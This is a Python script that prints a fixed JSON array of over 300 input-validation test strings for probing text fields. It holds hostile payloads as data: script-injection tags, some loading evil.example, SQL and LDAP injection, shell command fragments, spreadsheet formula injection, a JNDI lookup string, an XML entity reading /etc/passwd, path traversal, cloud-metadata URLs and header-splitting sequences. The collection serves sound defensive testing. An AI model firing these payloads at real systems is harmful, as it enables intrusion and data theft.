#!/usr/bin/python3
"""Prints 300 and more strings that text fields of other systems have stumbled over, as a JSON array.

All of them can be written as JSON; which a field takes and which it refuses is the test's question.  The
array is the same in each run.
"""
import json

SCRIPTS = [
    "<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>", "<script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>", "<img/src=`x`onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<iframe srcdoc='<script>1</script>'>",
    "<a href=\"javascript:alert(1)\">x</a>", "<a href='java\tscript:alert(1)'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>", "<style>@import '//evil.example';</style>",
    "<object data=\"data:text/html,<script>1</script>\">", "<embed src=javascript:alert(1)>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "`-alert(1)-`",
    "';alert(1)//", "\";alert(1)//", "\\\";alert(1)//", "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "\\u003cscript\\u003e",
    "%3Cscript%3E", "%253Cscript%253E", "\u00bcscript\u00be", "\uff1cscript\uff1e", "<\u0000script>".replace("\0", ""),
    "<!--#exec cmd=\"id\"-->", "<?php phpinfo(); ?>", "<%= 7*7 %>", "{{7*7}}", "${7*7}", "#{7*7}", "@{7*7}",
    "{{constructor.constructor('alert(1)')()}}", "{%import os%}", "${jndi:ldap://evil.example/a}",
    "%{(#a=1)}", "[[${7*7}]]", "<#assign x=1>", "__proto__", "constructor", "hasOwnProperty", "toString",
    "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>",
    "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;\">]><x>&b;</x>",
]

QUERIES = [
    "'", "''", "\"", "`", ";", "--", "/*", "*/", "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "') OR ('1'='1",
    "1; DROP TABLE event", "'; DROP TABLE event;--", "1 UNION SELECT null,null", "' UNION SELECT password FROM user--",
    "admin'--", "admin'/*", "x' AND 1=(SELECT COUNT(*) FROM sqlite_master);--", "'||(SELECT 1)||'",
    "randomblob(1000000000)", "load_extension('/tmp/x')", "ATTACH DATABASE '/tmp/x' AS y", "%", "_", "%%%%", "[a-z]",
    "*", "?", ":name", "@name", "$name", "?1", "NULL", "null", "undefined", "NaN", "Infinity", "true", "false", "nil",
    "None", "\"unbalanced", "a OR b", "a AND", "NOT", "NEAR(a b)", "text:secret", "a*", "^a", "(a", "a)", "-a", "+a",
    "{a}", "a:b:c", "\"a\" OR \"", "*)(uid=*))(|(uid=*", "x]) or 1=1 or ([x", "{\"$gt\":\"\"}", "[$ne]=1",
]

COMMANDS = [
    "; id", "| id", "|| id", "& id", "&& id", "`id`", "$(id)", "${IFS}id", "> /tmp/x", "< /etc/passwd", "\\", "\\\\",
    "a\\", "!!", "~", "~root", "*.jpg", "-rf", "--help", "-", "--", "-o/tmp/x", "=cmd|' /C calc'!A0", "=1+1", "+1+1",
    "-1+1", "@SUM(1+1)", "=HYPERLINK(\"//evil.example\")", "%s", "%n%n%n%n", "%x%x%x", "%p", "%1$s", "%99999999s",
    "%d %i %f", "{0}", "%(name)s", "$1", "\\1", "%0a", "%00", "%0d%0aSet-Cookie: a=b",
]

PATHS = [
    ".", "..", "/", "//", "../", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\",
    "\\\\host\\share", "file:///etc/passwd", "%2e%2e%2f", "..%2f..%2f", "%252e%252e%252f", "..;/", "....//", ".git",
    ".htaccess", "CON", "NUL", "AUX", "COM1", "LPT1", "con.jpg", "a.jpg ", "a.jpg.", " a", "a ", "a\u00a0", "a:b",
    "a::$DATA", "a?b", "a*b", "a|b", "a<b", "a>b", "a\"b", "%5c..%5c", "\uff0e\uff0e\uff0f", "\u2025/", "/dev/null",
    "/proc/self/environ", "http://169.254.169.254/latest/", "gopher://evil.example/", "//evil.example", "\\\\evil.example",
    "http://[::1]/", "http://0x7f000001/", "http://evil.example@127.0.0.1/",
]

UNICODE = [
    "\u00e9", "e\u0301", "\u212b", "\u00c5", "\ufb01", "\u0130", "\u0131", "\u00df", "\u1e9e", "\u017f", "\u03c2",
    "\u01c5", "\u0345", "\u202ereversed", "\u202dforced", "\u2066isolated\u2069", "a\u200bb", "a\u200db", "\ufeffa",
    "a\ufeff", "\u2028line", "\u2029paragraph", "\u00adsoft", "\u034f", "\u061c", "\u180e", "\u2060", "\u3164",
    "\uffa0", "\u115f", "\ufff9a\ufffab\ufffb", "\ufffd", "\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\U0010ffff",
    "\ue000", "\U000f0000", "\U000e0001", "\U000e0041", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1eb\U0001f1f7", "\U0001f44d\U0001f3fd", "1\ufe0f\u20e3", "\u2764\ufe0f", "\U0001d400\U0001d401",
    "\u05e9\u05dc\u05d5\u05dd", "\u0645\u0631\u062d\u0628\u0627", "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35", "\u4f60\u597d",
    "\u3053\u3093\u306b\u3061\u306f", "\uc548\ub155", "\u0928\u092e\u0938\u094d\u0924\u0947", "\ufdfd", "\U0001242b",
    "\u0c1c\u0c4d\u0c1e\u200c\u0c3e", "Z" + "\u0300\u0301\u0302\u0303" * 20, "\u0489" * 30, "\u202a" * 60,
    "\u0440\u0430\u0443\u0440\u0430l", "\u0391dmin", "\uff41\uff44\uff4d\uff49\uff4e", "\u24d0\u24d3\u24dc\u24d8\u24dd",
    "\ud7ff", "\u0378", "\u2ff0", "\u1f0a0", "\u00b5", "\u03bc", "\u0149", "\u0587", "\u1e97", "\u1fb3", "\u1f80",
    "\ufb06", "\u0958", "\ufb1d", "\u2126", "\u00bd", "\u2468", "\u32ff", "\u2000", "\u3000", "\u1680",
]

OTHERS = [
    "", " ", "  ", "0", "00", "-0", "-1", "1e999", "0x10", "1.0", "9223372036854775808", "-9223372036854775809",
    "4294967296", "1/0", "0.1", "1,000", "\u0661\u0662\u0663", "\u00b2", "a" * 255, "a" * 256, "a" * 1000,
    "\u00e9" * 128, "\U0001f600" * 64, "a b" * 200, "{}", "[]", "{\"a\":1}", "[" * 100, "\"", "\\\"", "\\u0000", "\\ud800",
    "\\x00", "\\n", "\\r\\n", "//", "#", "?a=b", "a=b&c=d", "a;b", "a,b", "=?utf-8?q?=41?=", "=?utf-8?b?QQ==?=",
    "Bcc: a@evil.example", "a@b", "\"a b\"@example.org", "a@[127.0.0.1]", "+33612345678", "00000000-0000-0000-0000-000000000000",
    "0190b0a0-0000-7000-8000-0000000000ff", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "phk_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "Bearer x", "null\nnull",
]


def controls():
    """Every control character but NUL, and what they do to terminals, headers and log lines."""
    for code in list(range(1, 32)) + [127] + list(range(0x80, 0xa0, 4)):
        yield f"a{chr(code)}b"
    yield from [
        "a\r\nb", "a\r\nSet-Cookie: a=b", "a\r\n\r\n<script>", "a\n\nb", "\n", "\r", "\t", "a\r\n.\r\nQUIT",
        "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x", "\x1b[2J", "\x1bP+q\x1b\\", "\x9b31m",
        "\x1b[6n", "a\x08b", "a\x7fb", "{\"level\":\"fake\"}\n{\"level\":\"line\"}",
    ]


def main():
    texts = SCRIPTS + QUERIES + COMMANDS + PATHS + UNICODE + OTHERS + list(controls())
    unique = list(dict.fromkeys(texts))
    assert len(unique) >= 300, len(unique)
    print(json.dumps(unique))


main()
